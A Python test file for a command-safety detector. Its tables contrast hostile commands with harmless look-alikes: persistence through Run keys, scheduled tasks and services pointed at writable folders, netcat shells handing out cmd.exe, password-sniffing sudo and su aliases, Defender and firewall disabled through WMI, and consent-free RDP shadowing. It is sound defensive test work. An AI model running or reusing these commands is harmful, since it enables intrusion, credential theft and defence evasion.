"""Session 18, lane docs2: classes seen in a second documentation source's dev half (cheat sheets and
offensive-security notes, labelled by their descriptions), each written here in our own words for launchers
and programs beyond the ones that showed it."""
from __future__ import annotations

from tests.safety.forms import table_holds

# Something made to start by itself runs a program from a place others can write: a temporary folder, Public,
# Downloads, the spooler's colour folder, Windows\Tasks, a share, an address; for a machine-wide start a user's
# AppData too (rules/autostart_writable.py).  Quiet: the same launchers pointing at installed programs, reads.
OPEN_AUTOSTARTS = (
    [r'Set-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name upd -Value "$env:TEMP\upd.exe"',
     r'New-ItemProperty -Path "HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce" -Name x '
     r'-Value "C:\Users\Public\x.exe" -PropertyType String',
     r'sp HKCU:\Software\Microsoft\Windows\CurrentVersion\Run helper "C:\Users\ana\Downloads\helper.exe"',
     r'New-ScheduledTaskAction -Execute "C:\Windows\Tasks\sync.exe"',
     r'New-ScheduledTaskAction -Execute powershell.exe -Argument "-File $env:TEMP\s.ps1"',
     r'at 09:00 /every:M,T,W,Th,F C:\Windows\Temp\job.bat',
     'sudo systemctl enable /tmp/metrics.service', 'systemctl link /dev/shm/agent.service',
     'sudo launchctl load -w /tmp/com.vendor.agent.plist',
     r'reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v svc /d "\\fileserver\drop\svc.exe" /f',
     r'schtasks /create /tn Refresh /sc minute /mo 5 /tr "C:\Windows\System32\spool\drivers\color\r.exe"',
     r'schtasks /create /tn Sync /sc onlogon /ru SYSTEM /tr "C:\Users\kim\AppData\Roaming\sync.exe"',
     r'sc.exe create Helper binPath= "C:\PerfLogs\helper.exe" start= auto',
     r'New-Service -Name Relay -BinaryPathName "C:\Users\Public\relay.exe" -StartupType Automatic',
     r'bitsadmin /SetNotifyCmdLine job1 %TEMP%\after.exe NUL'],
    [r'Set-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name app '
     r'-Value "C:\Program Files\App\app.exe"',
     r'New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name chat '
     r'-Value "C:\Users\ana\AppData\Local\Programs\chat\chat.exe"',
     r'New-ScheduledTaskAction -Execute "C:\Program Files\Backup\backup.exe"',
     'sudo systemctl enable nginx', 'systemctl --user enable ~/.config/systemd/user/notes.service',
     'launchctl load ~/Library/LaunchAgents/com.me.notes.plist',
     r'reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run',
     r'schtasks /create /tn backup /sc daily /tr "C:\tools\backup.exe"',
     r'sc create Agent binPath= "C:\Program Files\Agent\agent.exe" start= auto',
     r'bitsadmin /transfer job1 https://example.com/f.zip %TEMP%\f.zip',
     r'Get-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'])


def test_open_autostarts():
    table_holds(OPEN_AUTOSTARTS)


# A shell handed to another machine when the shell is named by its Windows path (`-e C:\Windows\System32\cmd.exe`,
# `powershell.exe`, Git's bash.exe), for every netcat (rules/remote_shell.py).  Quiet: a path to a program that
# is not a shell, the shell only named as a file to send.
SHELLS_BY_PATH = (
    [r'nc.exe 10.0.0.5 4444 -e C:\Windows\System32\cmd.exe',
     r'ncat 10.0.0.5 443 -e C:\WINDOWS\system32\WindowsPowerShell\v1.0\powershell.exe',
     r'netcat -lvp 9001 -e "C:\Program Files\Git\bin\bash.exe"', r'C:\Temp\nc64.exe 10.0.0.5 80 -e C:\Windows\cmd.exe',
     r'pwncat 10.0.0.5 4444 -e C:\Windows\System32\cmd.exe', r'sbd -e C:\Windows\System32\cmd.exe 10.0.0.5 443',
     r'cryptcat 10.0.0.5 443 -e "C:\Program Files\PowerShell\7\pwsh.exe"',
     r'rcat 10.0.0.5 4444 -e C:\Windows\SysWOW64\cmd.exe'],
    [r'nc.exe 10.0.0.5 4444 -e C:\Tools\report.exe', r'nc.exe 10.0.0.5 4444 < C:\Windows\System32\cmd.exe',
     r'ncat -l 8080 -e C:\Tools\echo-server.exe', 'nc -zv 10.0.0.5 445'])


def test_shells_by_path():
    table_holds(SHELLS_BY_PATH)


# PowerShell's profile is a start-up file like ~/.bashrc: `$PROFILE` (any case, any of its four properties) and
# the profile's own paths are read as one, so writing over it or deleting it is judged as for ~/.bashrc
# (rules/common.py target, winpaths.classify_windows).  Quiet: appending, opening, testing, dot-sourcing it.
PROFILES_OVERWRITTEN = (
    ['Set-Content -Path $PROFILE -Value "Set-PSReadLineOption -EditMode Emacs"',
     "Out-File -FilePath $profile -InputObject 'Import-Module Az'", "ni -Path $PROFILE.CurrentUserAllHosts -Force",
     "Remove-Item $PROFILE", r"Copy-Item .\new-profile.ps1 $PROFILE -Force", "Clear-Content $Profile",
     r"Set-Content $env:USERPROFILE\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1 'cls'",
     "rm ~/.config/powershell/Microsoft.PowerShell_profile.ps1", "echo 'Clear-Host' > $PROFILE.AllUsersAllHosts"],
    ["Add-Content $PROFILE 'Import-Module posh-git'", "notepad $PROFILE", "code $PROFILE", "Test-Path $PROFILE",
     ". $PROFILE", "echo 'Set-Alias ll Get-ChildItem' >> $PROFILE", "New-Item -Path $PROFILE -ItemType File",
     "Get-Content $PROFILE", "cat ~/.config/powershell/Microsoft.PowerShell_profile.ps1"])


def test_profiles_overwritten():
    table_holds(PROFILES_OVERWRITTEN)


# A generator's new file is named, not acted on: the name after a generating word (`generate`, `gen`, `g`,
# `scaffold`, `makemigrations`, fused `ecto.gen.migration`, `migration:generate`) or given to `--name`,
# `--message`, `--title`, `--description` is never read as a verb (rules/action.py).  Loud: the same tools'
# own destroying subcommands.
GENERATED_NAMES = (
    ["rails db:drop", "mix ecto.drop", "prisma migrate reset --force", "npx sequelize-cli db:migrate:undo:all",
     "python manage.py flush --no-input", "bin/rails db:schema:load DISABLE_DATABASE_ENVIRONMENT_CHECK=1",
     "npx knex migrate:rollback --all"],
    ["rails generate migration RemovePartNumberFromProducts part_number:string", "bin/rails g migration DropUsersTable",
     "ng g component delete-button", "nest g resource remove-items", "ember generate route destroy-account",
     "nx g @nx/react:lib delete-flow", "mix ecto.gen.migration drop_comments",
     "npx sequelize-cli migration:generate --name remove-status-column",
     "python manage.py makemigrations --name delete_old_fields", "prisma migrate dev --name drop-audit-log",
     "npx plop scaffold purge-cache-button", "gh issue create --title delete-stale-branches"])


def test_generated_names():
    table_holds(GENERATED_NAMES)


# A command that asks for a password redefined by an alias so that what is typed is caught: the alias runs a
# program kept in a temporary or hidden place, prompts for the password itself, or wraps the real command in a
# recorder (strace, ltrace, script, tee); read where an alias is made and where a start-up file gets one
# (rules/prompt_wrappers.py).  Quiet: aliases that only add options, swap in an equivalent, or wrap harmlessly.
PROMPTS_CAUGHT = (
    ['echo "alias su=/tmp/.u/su" >> ~/.zshrc', "alias doas='~/.cache/.d/doas'",
     "echo \"alias ssh='strace -o /tmp/.s.log -e trace=read,write ssh'\" >> ~/.bashrc",
     "printf 'alias passwd=\"ltrace -o /dev/shm/p passwd\"\\n' >> ~/.profile",
     "alias pkexec='read -sp \"Password: \" p; echo $p >> /tmp/.p; command pkexec'",
     "echo \"alias sudo='script -q -c sudo /tmp/.typed'\" | tee -a ~/.bashrc",
     r"Set-Alias -Name runas -Value C:\Users\Public\r.exe", "alias kinit='/var/tmp/.k/kinit'"],
    ["alias sudo='sudo '", "alias sudo=doas", "alias please=sudo", "alias ssh='kitty +kitten ssh'",
     "alias su='su -'", "echo \"alias ll='ls -l'\" >> ~/.bashrc", "alias sudo='sudo -E'",
     "echo \"alias ssh='TERM=xterm-256color ssh'\" >> ~/.zshrc", "Set-Alias -Name np -Value notepad.exe",
     "alias ssh='ssh -A'"])


def test_prompts_caught():
    table_holds(PROMPTS_CAUGHT)


# More spellings of a start from a place others can write: sc's `binPath=` fused to its value, an address after a
# colon (`/i:http://…`), and a shell's start-up file given a program kept in a temporary place
# (rules/autostart_writable.py, meaning's start-up files).  Quiet: the tool homes start-up files usually name.
MORE_OPEN_STARTS = (
    [r'sc.exe config Spooler binPath="C:\Users\Public\spool.exe"', r'sc create Upd binpath=C:\Windows\Temp\u.exe',
     'bitsadmin /SetNotifyCmdLine j1 regsvr32.exe "/s /i:https://example.net/x.sct scrobj.dll"',
     "echo '/tmp/.x &' >> ~/.bashrc", "echo 'nohup /dev/shm/agent >/dev/null 2>&1 &' >> ~/.zshrc",
     "printf '/var/tmp/u\\n' >> ~/.profile", "echo /tmp/hook | sudo tee -a /etc/profile.d/hook.sh",
     "echo '/tmp/.cfg/run' >> ~/.config/fish/config.fish"],
    [r'sc.exe config Spooler binPath="C:\Windows\System32\spoolsv.exe"', "echo 'source ~/.fzf.bash' >> ~/.bashrc",
     "echo 'export PATH=$HOME/.cargo/bin:$PATH' >> ~/.bashrc", "echo '. ~/.asdf/asdf.sh' >> ~/.zshrc",
     "echo 'export TMPDIR=/tmp/me' >> ~/.bashrc", "echo 'cd /tmp' >> ~/.bashrc"])


def test_more_open_starts():
    table_holds(MORE_OPEN_STARTS)


# A WMI class that mirrors a cmdlet or reg, called instead of it (Defender's MSFT_MpPreference, the firewall's
# MSFT_NetFirewallProfile, the registry's StdRegProv), judged as what it mirrors (rules/wmi_mirrors.py).
# Quiet: reads, and settings the mirrored command leaves quiet.
WMI_MIRRORS = (
    [r'WMIC /Namespace:\\root\Microsoft\Windows\Defender class MSFT_MpPreference call Add ExclusionPath="C:\data"',
     "Invoke-CimMethod -Namespace root/Microsoft/Windows/Defender -ClassName MSFT_MpPreference -MethodName Add "
     "-Arguments @{ExclusionProcess=@('sync.exe')}",
     "Invoke-CimMethod -Namespace root/Microsoft/Windows/Defender -ClassName MSFT_MpPreference -MethodName Set "
     "-Arguments @{DisableRealtimeMonitoring=$true}",
     "Get-CimInstance -Namespace root/StandardCimv2 -ClassName MSFT_NetFirewallProfile | "
     "Set-CimInstance -Property @{Enabled=0}",
     "Invoke-CimMethod -ClassName StdRegProv -MethodName SetDWORDValue -Arguments @{hDefKey=[uint32]2147483650; "
     r"sSubKeyName='SOFTWARE\Policies\Microsoft\Windows Defender'; sValueName='DisableAntiSpyware'; uValue=[uint32]1}",
     r'wmic /namespace:\\root\default path StdRegProv call SetStringValue hDefKey=2147483649 '
     r'sSubKeyName="Software\Microsoft\Windows\CurrentVersion\Run" sValueName="u" sValue="C:\Users\Public\u.exe"',
     "Invoke-WmiMethod -Namespace root/default -Class StdRegProv -Name DeleteKey -ArgumentList @{hDefKey=2147483650; "
     r"sSubKeyName='SYSTEM\CurrentControlSet\Services\WinDefend'}"],
    ["Get-CimInstance -Namespace root/Microsoft/Windows/Defender -ClassName MSFT_MpPreference",
     r'wmic /namespace:\\root\default path StdRegProv call GetStringValue hDefKey=2147483650 '
     r'sSubKeyName="SOFTWARE\Microsoft\Windows NT\CurrentVersion" sValueName="ProductName"',
     "Invoke-CimMethod -ClassName StdRegProv -MethodName SetStringValue -Arguments @{hDefKey=[uint32]2147483649; "
     r"sSubKeyName='Software\MyApp'; sValueName='Theme'; sValue='dark'}",
     "Invoke-CimMethod -Namespace root/Microsoft/Windows/Defender -ClassName MSFT_MpPreference -MethodName Set "
     "-Arguments @{SignatureUpdateInterval=4}",
     "Get-CimInstance -Namespace root/StandardCimv2 -ClassName MSFT_NetFirewallProfile | "
     "Set-CimInstance -Property @{Enabled=1}"])


def test_wmi_mirrors():
    table_holds(WMI_MIRRORS)


# Another user's session watched or controlled without asking them: mstsc's shadowing told not to prompt, the
# Remote Desktop shadow policy set to no permission (2, 4) by any registry writer, desktop sharing told to skip
# its dialog (krfb, Vino's prompt, Apple Remote Desktop's request for permission) (rules/consent_skipped.py).
# Quiet: shadowing that asks, the policy asking (1, 3), the prompt kept on.
CONSENT_SKIPPED = (
    ["mstsc /v:ws07 /shadow:3 /noConsentPrompt", "mstsc.exe /shadow:2 /v:term01 /control /noConsentPrompt",
     r'Set-ItemProperty -Path "HKLM:\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services" -Name Shadow -Value 2',
     r'New-ItemProperty "HKLM:\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services" -Name Shadow -Value 4 '
     '-PropertyType DWord -Force',
     r'reg add "\\ws07\HKLM\Software\Policies\Microsoft\Windows NT\Terminal Services" /v Shadow /t REG_DWORD /d 2 /f',
     "krfb --nodialog", "gsettings set org.gnome.Vino prompt-enabled false",
     "sudo /System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart -configure "
     "-clientopts -setreqperm -reqperm no"],
    ["mstsc /v:ws07 /shadow:3", "mstsc /v:ws07 /shadow:3 /control",
     r'reg add "HKLM\Software\Policies\Microsoft\Windows NT\Terminal Services" /v Shadow /t REG_DWORD /d 1 /f',
     r'Set-ItemProperty -Path "HKLM:\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services" -Name Shadow -Value 3',
     "gsettings set org.gnome.Vino prompt-enabled true", "krfb", "mstsc /v:ws07 /admin"])


def test_consent_skipped():
    table_holds(CONSENT_SKIPPED)


# A service's program replaced through the registry: ImagePath judged as sc's binPath= (a place others can write),
# and a svchost service's ServiceDll pointed outside System32 (it breaks, or loads what it is given as SYSTEM),
# by any registry writer (rules/autostart_writable.py).  Quiet: System32 libraries, reads, other values.
SERVICE_PROGRAMS_REPLACED = (
    [r"reg add HKLM\SYSTEM\CurrentControlSet\Services\W32Time\Parameters /v ServiceDll /t REG_EXPAND_SZ "
     r"/d C:\ProgramData\w32.dll /f",
     r'Set-ItemProperty -Path "HKLM:\SYSTEM\CurrentControlSet\Services\BITS\Parameters" -Name ServiceDll -Value x.dll',
     r"New-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Services\Dnscache\Parameters -Name ServiceDll "
     r"-Value D:\l\d.dll -Force",
     r"sp HKLM:\SYSTEM\CurrentControlSet\Services\Themes\Parameters ServiceDll C:\Users\Public\t.dll",
     r"reg add HKLM\SYSTEM\CurrentControlSet\Services\Fax /v ImagePath /t REG_EXPAND_SZ /d C:\Windows\Temp\f.exe /f",
     r'Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Services\Spooler -Name ImagePath -Value "%TEMP%\s.exe"',
     r'wmic /namespace:\\root\default path StdRegProv call SetExpandedStringValue hDefKey=2147483650 '
     r'sSubKeyName="SYSTEM\CurrentControlSet\Services\Schedule\Parameters" sValueName="ServiceDll" sValue="s.dll"'],
    [r"reg add HKLM\SYSTEM\CurrentControlSet\Services\W32Time\Parameters /v ServiceDll /t REG_EXPAND_SZ "
     r"/d %SystemRoot%\System32\w32time.dll /f",
     r"reg query HKLM\SYSTEM\CurrentControlSet\Services\BITS\Parameters /v ServiceDll",
     r'Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Services\MyAgent -Name ImagePath '
     r'-Value "C:\Program Files\MyAgent\agent.exe"',
     r"reg add HKLM\SYSTEM\CurrentControlSet\Services\W32Time\Parameters /v NtpServer /d pool.ntp.org /f"])


def test_service_programs_replaced():
    table_holds(SERVICE_PROGRAMS_REPLACED)


# A vendor's repository key saved where the package manager reads keys (/etc/apt/keyrings, /usr/share/keyrings,
# /etc/pki/rpm-gpg: one file per vendor, like a drop-in directory), and a download sent to stdout through a pipe
# not taken for a file saved under the address's last name (`wget -qO- …/gpg | gpg --dearmor`: gpg is not the
# download) (rules/content.py overwrite_level, rules/fetched_runs.py).  Loud: the shared keyring and source list
# replaced, a download saved and then run.
VENDOR_KEYS = (
    ["curl -fsSL https://example.com/key.gpg -o /etc/apt/trusted.gpg", "sudo tee /etc/apt/sources.list < new.list",
     "curl -fsSLO https://example.com/install.sh && sh install.sh",
     "wget -q https://example.com/setup.py && python3 setup.py", "curl -O https://example.com/gpg && ./gpg"],
    ["sudo curl -fsSL https://download.example.com/linux/ubuntu/gpg -o /etc/apt/keyrings/example.asc",
     "curl -fsSL https://cli.example.com/packages/archive-keyring.gpg | "
     "sudo dd of=/usr/share/keyrings/archive-keyring.gpg",
     "wget -O- https://apt.example.com/gpg | sudo gpg --dearmor -o /usr/share/keyrings/example-archive-keyring.gpg",
     "curl -fsSL https://pkgs.example.io/deb/Release.key | sudo gpg --dearmor -o /etc/apt/keyrings/example.gpg",
     "curl -fsSL https://deb.example.com/gpgkey/repo.gpg.key | sudo tee /etc/apt/keyrings/example.asc",
     "sudo wget -qO /etc/pki/rpm-gpg/RPM-GPG-KEY-example https://rpm.example.com/key",
     "sudo cp vendor.gpg /usr/share/keyrings/vendor.gpg"])


def test_vendor_keys():
    table_holds(VENDOR_KEYS)
